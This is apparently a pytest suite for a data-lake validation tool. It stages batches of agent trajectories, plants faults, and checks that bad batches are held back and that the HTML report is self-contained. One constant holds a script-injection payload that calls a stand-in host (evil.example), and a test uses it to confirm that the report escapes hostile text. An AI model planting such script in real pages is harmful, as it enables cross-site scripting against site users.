"""Validation on a real lake: one bad batch stays staged and named, the good ones go on, and the page stands alone."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from flywheel.config import Config
from flywheel.errors import ArtifactError, ConfigError, ValidationError
from flywheel.records import Blob, Outcome, Quarantine, SourceFile, Span, Step, ToolCall, Trajectory
from flywheel.store import lake as lake_module
from flywheel.store.lake import Lake
from flywheel.store.lake_staged import StagedBatch
from flywheel.store.suites import PACKAGED, load_suites, read_suite
from flywheel.store.tables import TABLES, to_arrow
from flywheel.validate import judge, validate
from flywheel.workspace import Workspace

SHA = "a" * 64
HOSTILE = "<script>fetch('https://evil.example/x')</script>"
Rows = dict[str, list[Any]]


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    (tmp_path / "flywheel.toml").write_text("", encoding="utf-8")
    return Workspace.find(tmp_path)


def batch(name: str, n: int = 2) -> Rows:
    """A clean batch of n trajectories: a question, a call, its result, an answer; and a verdict on each."""
    rows: Rows = {table: [] for table in ("trajectory", "step", "tool_call", "outcome")}
    for i in range(n):
        key = f"{name}-{i}"
        rows["trajectory"].append(
            Trajectory(
                trajectory_id=key, content_sha256=key, source_id=SHA, source_record_ix=i, format="openai_chat",
                n_steps=4, n_tool_calls=1, content_complete=True, success=True, input_tokens=9, output_tokens=2,
                started_at=datetime(2026, 1, 1, tzinfo=UTC), ended_at=datetime(2026, 1, 2, tzinfo=UTC),
            )
        )  # fmt: skip
        for ix, (role, text) in enumerate([("user", "hi"), ("assistant", None), ("tool", "42"), ("assistant", "42")]):
            state = "null" if text is None else "present"
            calls = int(ix == 1)
            rows["step"].append(
                Step(trajectory_id=key, step_ix=ix, role=role, content=text, content_state=state, n_tool_calls=calls)
            )
        rows["tool_call"].append(
            ToolCall(trajectory_id=key, step_ix=1, call_ix=0, name="get", args_raw="{}", args="{}", args_state="ok",
                     result_step_ix=2, result_text="42", result_state="ok")
        )  # fmt: skip
        rows["outcome"].append(
            Outcome(outcome_id=key, trajectory_id=key, name="ok", value_bool=True, value_type="boolean", polarity=1,
                    source_kind="verifier")
        )  # fmt: skip
    rows["source_file"] = [
        SourceFile(source_id=SHA, uri="x.jsonl", sha256=SHA, bytes=9, format="openai_chat", adapter="a",
                   adapter_version="1", ingested_at=datetime(2026, 1, 3, tzinfo=UTC), n_records=n, n_trajectories=n,
                   n_quarantined=0)
    ]  # fmt: skip
    return rows


def changed(rows: Rows, table: str, place: int = 0, **fields: Any) -> Rows:
    """The batch with one row changed."""
    rows[table][place] = replace(rows[table][place], **fields)
    return rows


def refused(rows: Rows, n: int, of: int) -> Rows:
    """The batch with n of `of` records in quarantine."""
    rows["quarantine"] = [Quarantine(source_id=SHA, record_ix=i, code="not_json") for i in range(n)]
    return changed(rows, "source_file", n_records=of, n_quarantined=n)


def broken(rows: Rows, table: str) -> set[tuple[str, str]]:
    """Severity and sentence of each check of a table's packaged suite that does not hold."""
    data = {name: to_arrow(name, records) for name, records in rows.items() if records}
    with StagedBatch(data) as staged:
        found = judge(read_suite(PACKAGED / f"{table}.yaml"), staged)
    return {(f.severity, f.says) for f in found if not f.success}


def test_good_batch_is_published_and_bad_one_stays_staged_named_and_alone(workspace: Workspace) -> None:
    lake = Lake(workspace)
    lake.stage("batch-1-bad", changed(batch("bad"), "step", 0, role=HOSTILE))
    lake.stage("batch-2-good", batch("good"))
    seen: list[tuple[int, int]] = []
    result = validate(workspace, Config(), progress=lambda done, total, what: seen.append((done, total)))
    bad, good = result.judged
    assert (bad.batch, bad.state, bad.success) == ("batch-1-bad", "failed", False)
    assert (good.batch, good.state, good.success, good.failed) == ("batch-2-good", "accepted", True, ())
    assert len(bad.failed) == 1 and "one of the five roles (1 of 8 values" in bad.failed[0]
    assert seen == [(0, 2), (1, 2), (2, 2)]
    assert lake.failed() == {"batch-1-bad": bad.failed[0]} and lake.staged() == []
    assert {r["trajectory_id"] for r in lake.query("select trajectory_id from trajectory")} == {"good-0", "good-1"}
    head = lake.head()
    assert head and result.snapshot == head.snapshot_id

    verdicts = lake.query("select target_id, suite, success, n_failed, result from validation order by all")
    assert [(v["target_id"], v["suite"], v["success"], v["n_failed"]) for v in verdicts] == [
        (name, table, (name, table) != ("batch-1-bad", "step"), int((name, table) == ("batch-1-bad", "step")))
        for name in ("batch-1-bad", "batch-2-good")
        for table in ("outcome", "source_file", "step", "tool_call", "trajectory")
    ]
    steps = json.loads(verdicts[2]["result"])
    assert steps["rows"] == 8 and [c["says"] for c in steps["checks"] if not c["success"]] == [
        "Every message has one of the five roles"
    ]


def test_nothing_waiting_is_a_no_op(workspace: Workspace) -> None:
    lake = Lake(workspace)
    lake.stage("batch-1", batch("a"))
    first = validate(workspace, Config())
    assert validate(workspace, Config()).judged == ()
    assert validate(workspace, Config()).snapshot == first.snapshot
    with pytest.raises(ArtifactError, match="batch-1"):
        validate(workspace, Config(), batch="batch-1")


def test_forced_acceptance_needs_a_reason_and_is_recorded(workspace: Workspace) -> None:
    lake = Lake(workspace)
    lake.stage("batch-1", changed(batch("a"), "step", 1, step_ix=7))
    with pytest.raises(ValidationError, match="needs a reason"):
        validate(workspace, Config(), accept="batch-1", reason="  ")
    validate(workspace, Config())
    judged = validate(workspace, Config(), accept="batch-1", reason="seen & agreed").judged[0]
    assert (judged.state, judged.success) == ("forced", False) and judged.failed
    row = lake.query("select state, reason from batch where batch_id = 'batch-1'")
    assert row == [{"state": "forced", "reason": "seen & agreed"}]
    assert lake.query("select count(*) as n from trajectory") == [{"n": 2}]
    assert lake.failed() == {}
    assert "seen &amp; agreed" in (workspace.root / judged.data_docs).read_text(encoding="utf-8")


def test_page_stands_alone_and_escapes_hostile_text(workspace: Workspace) -> None:
    Lake(workspace).stage("batch-1", changed(batch("a"), "step", 0, role=HOSTILE))
    result = validate(workspace, Config())
    assert result.data_docs == ("data/validation/batch-1/index.html",)
    page = (workspace.root / result.data_docs[0]).read_text(encoding="utf-8")
    assert "&lt;script&gt;fetch(" in page and "<script" not in page
    # No remote address in any attribute or style: hostile text is the only place where one may be read.
    assert not re.search(
        r"(?i)<(?:link|img|iframe|object|embed|base)\b|\b(?:src|href|srcset|action)\s*=|@import|url\(", page
    )
    assert set(re.findall(r"https?://[^\s&<\"']+", page)) == {"https://evil.example/x"}
    assert "default-src 'none'" in page


def test_a_workspace_suite_replaces_the_packaged_one(workspace: Workspace) -> None:
    lake = Lake(workspace)
    lake.stage("batch-1", changed(batch("a"), "step", 0, role="narrator"))
    assert not validate(workspace, Config()).judged[0].success
    own = workspace.root / "expectations"
    own.mkdir()
    packaged = (PACKAGED / "step.yaml").read_text(encoding="utf-8")
    (own / "step.yaml").write_text(packaged.replace("tool, event]", "tool, event, narrator]"), encoding="utf-8")
    assert validate(workspace, Config(), batch="batch-1").judged[0].state == "accepted"
    shas = lake.query("select suite_sha256, success from validation where suite = 'step' order by success")
    assert [row["success"] for row in shas] == [False, True] and len({row["suite_sha256"] for row in shas}) == 2


def test_an_exception_inside_the_library_is_raised_and_judges_nothing(workspace: Workspace) -> None:
    lake = Lake(workspace)
    lake.stage("batch-1", batch("a"))
    own = workspace.root / "expectations"
    own.mkdir()
    (own / "step.yaml").write_text(
        "table: step\nchecks:\n- {says: Roles are numbers, column: role, severity: fail,\n"
        "   expect: expect_column_values_to_be_between, with: {min_value: 0}}\n",
        encoding="utf-8",
    )
    with pytest.raises(ValidationError, match=r"'Roles are numbers' could not be made: .*same type"):
        validate(workspace, Config())
    assert lake.staged() == ["batch-1"] and lake.failed() == {} and lake.head() is None


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("checks: [", "is no YAML"),
        ("table: trajectory\nchecks: [{says: x}]", "must say `table: step`"),
        ("table: step\nchecks: []", "no list of `checks`"),
        ("table: step\nchecks: [{severity: fail, offenders: x}]", "`says` is missing"),
        ("table: step\nchecks: [{says: x, severity: bad, offenders: x}]", "fail or warn, not 'bad'"),
        ("table: step\nchecks: [{says: x, severity: warn, offender: x}]", "unknown key 'offender'"),
        ("table: step\nchecks: [{says: x, severity: warn, column: role}]", "give either"),
        ("table: step\nchecks: [{says: x, severity: warn, column: rol, expect: y}]", "no column 'rol'"),
        ("table: step\nchecks: [{says: x, severity: warn, value: SELECT 1}]", "needs `min`, `max` or both"),
    ],
)
def test_a_faulty_suite_file_is_named(tmp_path: Path, body: str, message: str) -> None:
    (tmp_path / "step.yaml").write_text(body, encoding="utf-8")
    with pytest.raises(ConfigError, match=re.escape(message)):
        read_suite(tmp_path / "step.yaml")


@pytest.mark.parametrize(
    ("check", "message"),
    [
        ("offenders: SELECT nothing FROM step", "DuckDB refuses the SQL"),
        ("value: SELECT step_ix FROM step, min: 0", "exactly one number"),
        ("column: role, expect: expect_wonders", "expect_wonders is refused"),
        ("column: role, expect: expect_column_values_to_be_in_set, with: {wrong: 1}", "is refused"),
    ],
)
def test_a_check_that_makes_no_sense_is_named(tmp_path: Path, check: str, message: str) -> None:
    path = tmp_path / "step.yaml"
    path.write_text(f"table: step\nchecks: [{{says: it holds, severity: fail, {check}}}]", encoding="utf-8")
    with pytest.raises(ConfigError, match=f"'it holds'.*{re.escape(message)}"):
        judge(read_suite(path), StagedBatch({"step": to_arrow("step", batch("a")["step"])}))


def test_there_is_a_suite_for_each_table_that_ingest_stages() -> None:
    suites = {suite.table: suite for suite in load_suites(Path("none"))}
    assert set(suites) == {"source_file", "quarantine", "trajectory", "step", "tool_call", "outcome", "blob", "span"}
    assert set(suites) <= set(TABLES)


def test_a_clean_batch_breaks_nothing() -> None:
    rows = refused(batch("a", n=30), n=0, of=30)
    assert {table: broken(rows, table) for table in rows if rows[table]} == {t: set() for t in rows if rows[t]}


BREAKS: list[tuple[str, str, str, Callable[[Rows], Rows]]] = [
    ("step", "fail", "Messages are numbered 0, 1, 2... without a gap", lambda r: changed(r, "step", 3, step_ix=4)),
    ("step", "fail", "Every message belongs to a trajectory of this batch",
     lambda r: r | {"trajectory": r["trajectory"][1:]}),
    ("step", "fail", "n_tool_calls counts the calls of the message", lambda r: changed(r, "step", 0, n_tool_calls=1)),
    ("step", "fail", "A message follows its parent", lambda r: changed(r, "step", 0, parent_ix=3)),
    ("step", "fail", "Token counts are not negative", lambda r: changed(r, "step", 0, output_tokens=-1)),
    ("step", "warn", "Every tool result answers a call", lambda r: r | {"tool_call": []}),
    ("trajectory", "fail", "n_steps counts the messages that are there", lambda r: r | {"step": r["step"][:-1]}),
    ("trajectory", "fail", "Token counts are not negative", lambda r: changed(r, "trajectory", 0, output_tokens=-1)),
    ("trajectory", "warn", "A trajectory does not end before it starts",
     lambda r: changed(r, "trajectory", 0, ended_at=datetime(2025, 1, 1, tzinfo=UTC))),
    ("trajectory", "fail", "No trajectory stands in the batch twice under one revision",
     lambda r: r | {"trajectory": [*r["trajectory"], r["trajectory"][0]]}),
    ("trajectory", "warn", "Times lie between 2015 and 2100 (a wrong unit gives 1970 or the far future)",
     lambda r: changed(r, "trajectory", 0, started_at=datetime(1970, 1, 1, tzinfo=UTC))),
    ("trajectory", "warn", "At least half of the trajectories were captured completely",
     lambda r: changed(changed(r, "trajectory", 0, content_complete=False), "trajectory", 1, content_complete=False)),
    ("tool_call", "fail",
     "A call's result is a later tool message (an earlier one only where that was seen and repaired)",
     lambda r: changed(r, "tool_call", 0, result_step_ix=3)),
    ("tool_call", "fail",
     "A call's result is a later tool message (an earlier one only where that was seen and repaired)",
     lambda r: changed(r, "tool_call", 0, result_step_ix=0)),
    ("tool_call", "fail", "Every call is made by an assistant, or by a user who has tools",
     lambda r: changed(r, "tool_call", 0, step_ix=2)),
    ("tool_call", "fail", "Calls of one message are numbered 0, 1, 2... without a gap",
     lambda r: changed(r, "tool_call", 0, call_ix=1)),
    ("tool_call", "fail", "Arguments that parsed are there, and only they",
     lambda r: changed(r, "tool_call", 0, args=None)),
    ("tool_call", "warn", "At most a fifth of the calls has no result",
     lambda r: changed(r, "tool_call", 0, result_step_ix=None, result_text=None, result_state="missing")),
    ("outcome", "fail", "No outcome stands in the batch twice", lambda r: r | {"outcome": r["outcome"] * 2}),
    ("outcome", "fail", "Polarity is -1, 0 or 1", lambda r: changed(r, "outcome", 0, polarity=5)),
    ("outcome", "warn", "A value is in the column of its kind (NaN and infinity only as they were typed)",
     lambda r: changed(r, "outcome", 0, value_type="number")),
    ("source_file", "fail", "Every landing object is named by the sha256 of its bytes",
     lambda r: changed(r, "source_file", 0, sha256="x")),
    ("source_file", "fail", "The counted refused records are those in quarantine",
     lambda r: changed(r, "source_file", 0, n_quarantined=1)),
    ("source_file", "fail", "At most a fifth of the records is refused (counted from ten refused records on)",
     lambda r: refused(r, 10, 12)),
    ("quarantine", "fail", "Every refused record belongs to a landing object of this batch",
     lambda r: refused(r, 1, 99) | {"source_file": []}),
    ("blob", "fail", "The bytes that are there are those that were named",
     lambda r: r | {"blob": [Blob(sha256=SHA, bytes=2, data=b"hi")]}),
    ("span", "warn", "A span does not end before it starts",
     lambda r: r | {"span": [Span(trace_id="t", span_id="s", start_ns=2, end_ns=1)]}),
]  # fmt: skip


@pytest.mark.parametrize(("table", "severity", "says", "spoil"), BREAKS, ids=[f"{b[0]}-{b[2][:30]}" for b in BREAKS])
def test_each_planted_fault_breaks_its_check(
    table: str, severity: str, says: str, spoil: Callable[[Rows], Rows]
) -> None:
    assert (severity, says) in broken(spoil(batch("a")), table)


def test_one_bad_line_of_three_is_reported_and_holds_nothing_back() -> None:
    assert broken(refused(batch("a"), 1, 3), "source_file") == {("warn", "At most one record in fifty is refused")}


def test_a_verdict_that_a_killed_publisher_left_staged_is_published_once(workspace: Workspace) -> None:
    """The verdict's own batch lies beside the one that it is about; judging that one again publishes both."""
    lake = Lake(workspace)
    lake.stage("batch-1", batch("a"))
    published: list[str] = []
    publish = lake_module.lake_publish.publish_staged

    def killed(reader: Any, batch_id: str, *more: Any, **named: Any) -> Any:
        published.append(batch_id)
        raise KeyboardInterrupt

    lake_module.lake_publish.publish_staged = killed
    try:
        with pytest.raises(KeyboardInterrupt):
            validate(workspace, Config())
    finally:
        lake_module.lake_publish.publish_staged = publish
    assert list(lake.in_staging()) == ["batch-1", *published] and lake.staged() == ["batch-1"]
    assert [verdict.batch for verdict in validate(workspace, Config()).judged] == ["batch-1"]
    assert lake.staged() == [] and len(lake.query("select * from trajectory")) == 2
